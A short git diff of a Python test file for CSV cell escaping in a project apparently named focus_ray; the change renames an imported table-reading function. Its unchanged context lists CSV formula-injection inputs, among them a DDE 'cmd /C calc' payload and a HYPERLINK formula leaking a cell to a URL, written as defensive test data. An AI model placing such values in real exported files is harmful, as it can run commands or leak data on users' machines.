@@ -12,7 +12,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from focus_ray.csv_tables import COLUMNS, csv_cell, csv_text, table_text
-from focus_ray.data.importers.groups import _read_table
+from focus_ray.data.importers.groups import _read_group_table
 
 FORMULAS = [
     *('=HYPERLINK("https://example.org?"&A1).png', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"),
@@ -47,4 +47,4 @@ def test_numbers_and_ordinary_names_are_not_changed(value: Any) -> None:
 
 def test_a_table_of_verdicts_serves_as_a_table_of_groups(tmp_path: Path) -> None:
     (tmp_path / "table.csv").write_text(table_text([{"image": "=1.png", "category": "-a"}]))
-    assert _read_table(f"{tmp_path}/table.csv:category") == {"=1.png": "-a"}
+    assert _read_group_table(f"{tmp_path}/table.csv:category") == {"=1.png": "-a"}
